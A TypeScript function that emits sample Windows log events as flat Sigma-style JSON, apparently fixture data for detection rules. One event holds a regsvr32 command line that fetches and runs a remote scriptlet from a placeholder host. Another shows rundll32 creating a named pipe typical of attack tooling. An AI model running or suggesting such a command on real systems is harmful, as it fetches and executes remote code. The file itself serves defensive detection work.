// Events as a pipeline exports them: flat JSON under Sigma's field names, whose top level says the log source.

export function flatExample(): string {
  const host = { product: 'windows', Computer: 'ws9.corp.example' }
  const process = { ...host, category: 'process_creation' }
  const events = [
    {
      ...process,
      UtcTime: '2026-03-02 10:02:11.120',
      Image: 'C:\\Windows\\System32\\notepad.exe',
      CommandLine: 'notepad.exe a.txt',
      ParentImage: 'C:\\Windows\\explorer.exe',
      User: 'CORP\\ben',
    },
    {
      ...process,
      UtcTime: '2026-03-02 10:04:40.003',
      Image: 'C:\\Windows\\System32\\regsvr32.exe',
      CommandLine:
        'regsvr32.exe /s /n /i:https://scripts.example/update.sct scrobj.dll',
      ParentImage: 'C:\\Windows\\System32\\cmd.exe',
      User: 'CORP\\ben',
    },
    {
      ...host,
      category: 'pipe_created',
      UtcTime: '2026-03-02 10:04:44.871',
      PipeName: '\\MSSE-4021-server',
      Image: 'C:\\Windows\\System32\\rundll32.exe',
      User: 'CORP\\ben',
    },
    {
      ...host,
      category: 'pipe_created',
      UtcTime: '2026-03-02 10:05:02.410',
      PipeName: '\\srvsvc',
      Image: 'C:\\Windows\\System32\\svchost.exe',
      User: 'NT AUTHORITY\\SYSTEM',
    },
  ]
  return `${events.map((e) => JSON.stringify(e)).join('\n')}\n`
}
